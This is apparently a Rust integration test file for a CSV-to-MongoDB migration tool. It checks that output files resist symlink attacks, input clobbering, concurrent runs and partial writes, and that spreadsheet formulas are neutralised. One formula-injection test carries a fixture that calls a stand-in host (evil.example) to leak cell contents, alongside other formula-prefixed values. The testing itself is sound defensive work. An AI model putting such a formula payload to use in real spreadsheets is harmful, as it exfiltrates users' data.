//! The files `migrate` and `verify` write beside the database — the quarantine and the report:
//! never through a planted link, never over the input, never shared by two runs, never left
//! half-written, safe to open in a spreadsheet and feed back. Read back from the file system
//! (contents, modes, inode identity) and from the server.

use std::io::Write as _;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use bson::{doc, Bson};

use crate::util::*;

/// `hcctl migrate -` into collection `coll` with `--report report`, reading a pipe the test
/// writes to: the run holds its outputs while it waits for more rows.
fn migrate_from_pipe(env: &TestEnv, coll: &str, report: &str) -> (Child, std::process::ChildStdin) {
    let mut child = env
        .command(&[
            "migrate",
            "-",
            "--db",
            &env.db,
            "--collection",
            coll,
            "--report",
            report,
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stdin = child.stdin.take().unwrap();
    (child, stdin)
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// A regular file (not a link) readable by its owner only.
fn assert_private_file(path: &Path) {
    let meta = std::fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("{} is missing: {e}", path.display()));
    assert!(meta.is_file(), "{} is not a regular file", path.display());
    assert_eq!(
        meta.permissions().mode() & 0o777,
        0o600,
        "{}",
        path.display()
    );
}

/// Wait until one of `paths` exists (hcctl has read the header and started its outputs).
fn wait_for_any(paths: &[PathBuf], child: &mut Child) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !paths.iter().any(|p| p.exists()) {
        assert!(
            child.try_wait().unwrap().is_none(),
            "hcctl ended before its outputs were started"
        );
        assert!(Instant::now() < deadline, "hcctl never started {paths:?}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// The quarantine's rows (header excluded), as read by an ordinary CSV reader.
fn quarantine_rows(path: &Path) -> Vec<csv::StringRecord> {
    csv::ReaderBuilder::new()
        .flexible(true)
        .from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap())
        .collect()
}

#[tokio::test]
async fn outputs_do_not_follow_symlinks() {
    let env = TestEnv::new("symlinks").await;
    let dir = env.dir.path();
    let input = env.write(
        "rows.csv",
        format!("{HEADER}\n{}\n{}\n", row_with(&[]), row_with(&[(1, "abc")])),
    );
    // Planted by another user: the default quarantine's predictable name and the report's name
    // lead to files of theirs (one existing, one still to be created).
    let victim = env.write("victim.txt", "not yours");
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
    let victim_inode = std::fs::metadata(&victim).unwrap().ino();
    let absent = dir.join("created-by-hcctl.json");
    let quarantine = dir.join("rows.quarantine.csv");
    let report = dir.join("report.json");
    std::os::unix::fs::symlink(&victim, &quarantine).unwrap();
    std::os::unix::fs::symlink(&absent, &report).unwrap();

    let out = env.run(&[
        "migrate",
        "rows.csv",
        "--db",
        &env.db,
        "--collection",
        "c",
        "--report",
        "report.json",
    ]);
    assert_success(&out);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "not yours");
    assert_eq!(mode(&victim), 0o644, "the link's target was chmod-ed");
    assert_eq!(std::fs::metadata(&victim).unwrap().ino(), victim_inode);
    assert!(!absent.exists(), "a file was created through the link");
    // The links were replaced by the outputs themselves.
    assert_private_file(&quarantine);
    assert_private_file(&report);
    let rows = quarantine_rows(&quarantine);
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][1], "age_invalid");
    let r = read_json(&report);
    assert_eq!((n(&r, "inserted"), n(&r, "rejected")), (1, 1));
    assert_eq!(env.count("c", doc! {}).await, 1);

    // verify's report goes the same way.
    let verify_report = dir.join("verify.json");
    std::os::unix::fs::symlink(&victim, &verify_report).unwrap();
    let out = env.run(&[
        "verify",
        input.to_str().unwrap(),
        "--db",
        &env.db,
        "--collection",
        "c",
        "--report",
        "verify.json",
    ]);
    assert_success(&out);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "not yours");
    assert_private_file(&verify_report);
    assert_eq!(read_json(&verify_report)["ok"], true);
    env.drop_db().await;
}

#[tokio::test]
async fn stdin_is_checked_against_the_outputs() {
    let env = TestEnv::new("stdinout").await;
    let input = env.generate("adm.csv", 20_000, 5);
    let before = std::fs::read(&input).unwrap();
    let inode = std::fs::metadata(&input).unwrap().ino();
    for flag in ["--quarantine", "--report"] {
        let out = env
            .command(&[
                "migrate",
                "-",
                "--db",
                &env.db,
                "--collection",
                "c",
                flag,
                "adm.csv",
            ])
            .stdin(std::fs::File::open(&input).unwrap())
            .output()
            .unwrap();
        assert_exit(&out, 2);
        let err = stderr(&out);
        assert!(
            err.contains(&format!(
                "{flag} adm.csv is the input file itself (standard input reads it)"
            )),
            "{err}"
        );
        assert_eq!(std::fs::metadata(&input).unwrap().ino(), inode);
        assert!(
            std::fs::read(&input).unwrap() == before,
            "the input changed"
        );
    }
    env.assert_nothing_written().await;
    // Read whole through stdin when the outputs are elsewhere.
    let out = env
        .command(&["migrate", "-", "--db", &env.db, "--collection", "c"])
        .stdin(std::fs::File::open(&input).unwrap())
        .output()
        .unwrap();
    assert_success(&out);
    assert!(stdout(&out).contains("20,000"), "{}", stdout(&out));
    env.drop_db().await;
}

#[tokio::test]
async fn quarantine_cells_cannot_run_as_formulas() {
    let env = TestEnv::new("formulas").await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&B3&C3,"Click")"#;
    let values = [
        (0, hyperlink),
        (6, "@SUM(A1:A9)"),
        (7, "+Sons and Miller"),
        (8, "'=already quoted"),
        (9, "-12.5"),
        (13, "-Paracetamol"),
    ];
    let quoted: Vec<(usize, String)> = values
        .iter()
        .map(|&(i, v)| (i, format!("\"{}\"", v.replace('"', "\"\""))))
        .collect();
    let fields = |age: &str| {
        let mut o: Vec<(usize, &str)> = quoted.iter().map(|(i, v)| (*i, v.as_str())).collect();
        o.push((1, age));
        row_with(&o)
    };
    // (A valid row too: a new collection with nothing to insert is not this test's subject.)
    let input = env.write(
        "f.csv",
        format!("{HEADER}\n{}\n{}\n", row_with(&[]), fields("abc")),
    );
    let quarantine = env.dir.path().join("f.q.csv");
    let r = env.migrate(&input, "c", &["--quarantine", quarantine.to_str().unwrap()]);
    assert_eq!(n(&r, "rejected"), 1);

    let rows = quarantine_rows(&quarantine);
    let row = &rows[0];
    assert_eq!(&row[3], format!("'{hyperlink}"));
    assert_eq!(&row[3 + 6], "'@SUM(A1:A9)");
    assert_eq!(&row[3 + 7], "'+Sons and Miller");
    assert_eq!(&row[3 + 8], "''=already quoted");
    assert_eq!(&row[3 + 9], "-12.5", "a number is left as it is");
    assert_eq!(&row[3 + 13], "'-Paracetamol");
    // No cell a spreadsheet would evaluate.
    for cell in row.iter() {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r'])
                && (!cell.starts_with('-') || cell == "-12.5"),
            "{cell:?}"
        );
    }

    // Fixed (in a spreadsheet: only the Age cell changed) and fed back: the same admission as
    // the original row fixed.
    let mut fixed = csv::Writer::from_path(env.dir.path().join("fixed.csv")).unwrap();
    let mut q = csv::ReaderBuilder::new()
        .flexible(true)
        .from_path(&quarantine)
        .unwrap();
    fixed.write_record(q.headers().unwrap()).unwrap();
    for rec in q.records() {
        let mut cells: Vec<String> = rec.unwrap().iter().map(String::from).collect();
        cells[3 + 1] = "30".into();
        fixed.write_record(&cells).unwrap();
    }
    fixed.flush().unwrap();
    drop(fixed);
    let r = env.migrate(&env.dir.path().join("fixed.csv"), "fed", &[]);
    assert_eq!(n(&r, "inserted"), 1);
    let direct = env.write("direct.csv", format!("{HEADER}\n{}\n", fields("30")));
    env.migrate(&direct, "direct", &[]);
    let (mut fed, mut original) = (env.docs("fed").await, env.docs("direct").await);
    assert_eq!(fed[0].get_str("_id"), original[0].get_str("_id"));
    assert_eq!(
        fed[0].get_str("Insurance Provider").unwrap(),
        "'=already quoted"
    );
    assert!(fed[0].get_str("Name").unwrap().starts_with("=Hyperlink("));
    assert_eq!(fed[0].get("Billing Amount"), Some(&Bson::Null));
    fed[0].remove("_lineage");
    original[0].remove("_lineage");
    assert_eq!(fed, original);
    env.drop_db().await;
}

#[tokio::test]
async fn concurrent_runs_cannot_share_a_quarantine() {
    let env = TestEnv::new("concurrent").await;
    let dir = env.dir.path();
    let quarantine = dir.join("stdin.quarantine.csv");
    // Run A reads standard input and holds its outputs while it waits for more rows.
    let (mut a, mut a_in) = migrate_from_pipe(&env, "a", "a.json");
    writeln!(a_in, "{HEADER}").unwrap();
    for age in 200..210 {
        writeln!(a_in, "{}", row_with(&[(1, &age.to_string())])).unwrap();
    }
    a_in.flush().unwrap();
    wait_for_any(
        &[quarantine.clone(), dir.join("stdin.quarantine.csv.partial")],
        &mut a,
    );

    // Run B, also from stdin, would write the same default quarantine: refused before it reads.
    let b_input = env.write(
        "b.csv",
        format!("{HEADER}\n{}\n{}\n", row_with(&[]), row_with(&[(1, "-3")])),
    );
    let b = env
        .command(&["migrate", "-", "--db", &env.db, "--collection", "b"])
        .stdin(std::fs::File::open(&b_input).unwrap())
        .output()
        .unwrap();
    assert_exit(&b, 2);
    let err = stderr(&b);
    assert!(
        err.contains("--quarantine stdin.quarantine.csv: another hcctl run is writing it"),
        "{err}"
    );
    assert_eq!(env.count("b", doc! {}).await, 0);

    for _ in 0..5 {
        writeln!(a_in, "{}", row_with(&[])).unwrap();
    }
    drop(a_in);
    let a = a.wait_with_output().unwrap();
    assert_success(&a);
    // A's rejected rows, all of them, and only them.
    let rows = quarantine_rows(&quarantine);
    let ages: Vec<&str> = rows.iter().map(|r| &r[3 + 1]).collect();
    let expected: Vec<String> = (200..210).map(|a| a.to_string()).collect();
    assert_eq!(ages, expected);
    assert_eq!(n(&read_json(&dir.join("a.json")), "rejected"), 10);
    assert_eq!(env.count("a", doc! {}).await, 1);
    env.drop_db().await;
}

#[tokio::test]
async fn a_quarantine_with_long_quoted_fields_can_be_fed_back() {
    let env = TestEnv::new("longq").await;
    // A 700 KB field of bare quotes (inside an unquoted field they are data) is within the
    // 1 MiB row limit; quoted for the quarantine, every one of them is doubled: 1.4 MB.
    let name = format!("A{}", "\"".repeat(700_000));
    let input = env.write(
        "long.csv",
        format!(
            "{HEADER}\n{}\n{}\n",
            row_with(&[]),
            row_with(&[(0, &name), (1, "abc")])
        ),
    );
    let quarantine = env.dir.path().join("long.q.csv");
    let r = env.migrate(&input, "c", &["--quarantine", quarantine.to_str().unwrap()]);
    assert_eq!(n(&r, "rejected"), 1);
    assert!(std::fs::metadata(&quarantine).unwrap().len() > 1_400_000);

    // Fixed and fed back whole.
    let text = std::fs::read_to_string(&quarantine).unwrap();
    let fixed = text.replacen(",abc,", ",41,", 1);
    assert_ne!(fixed, text);
    let fixed = env.write("long.fixed.csv", fixed);
    let out = env.migrate_command(&fixed, "fed", &[]).0.output().unwrap();
    assert_success(&out);
    let docs = env.docs("fed").await;
    assert_eq!(docs.len(), 1);
    assert_eq!(docs[0].get_str("Name").unwrap().len(), name.len());
    assert_eq!(docs[0].get_i32("Age").unwrap(), 41);
    env.drop_db().await;
}

#[tokio::test]
async fn sigterm_leaves_no_partial_quarantine() {
    signal_leaves_no_partial_quarantine("TERM", 143).await;
}

/// Review of issue 24: a hang-up (a dropped ssh session) killed the run without removing its
/// partial quarantine of patient rows.
#[tokio::test]
async fn sighup_leaves_no_partial_quarantine() {
    signal_leaves_no_partial_quarantine("HUP", 129).await;
}

async fn signal_leaves_no_partial_quarantine(signal: &str, exit_code: i32) {
    let env = TestEnv::new(&format!("sig{}", signal.to_ascii_lowercase())).await;
    let dir = env.dir.path();
    let (mut child, mut stdin) = migrate_from_pipe(&env, "c", "r.json");
    writeln!(stdin, "{HEADER}").unwrap();
    // Enough rejected rows to be on disk already (more than the write buffer).
    for _ in 0..2_000 {
        writeln!(stdin, "{}", row_with(&[(1, "abc")])).unwrap();
    }
    stdin.flush().unwrap();
    let quarantine = dir.join("stdin.quarantine.csv");
    let partial = dir.join("stdin.quarantine.csv.partial");
    wait_for_any(&[quarantine.clone(), partial.clone()], &mut child);
    let deadline = Instant::now() + Duration::from_secs(30);
    let size = |p: &Path| std::fs::metadata(p).map_or(0, |m| m.len());
    while size(&quarantine) + size(&partial) < 100_000 {
        assert!(
            Instant::now() < deadline,
            "the rejected rows never reached the disk"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    let kill = std::process::Command::new("kill")
        .args([&format!("-{signal}"), &child.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
    let out = child.wait_with_output().unwrap();
    drop(stdin);
    assert_exit(&out, exit_code);
    let left: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
    env.assert_nothing_written().await;
}
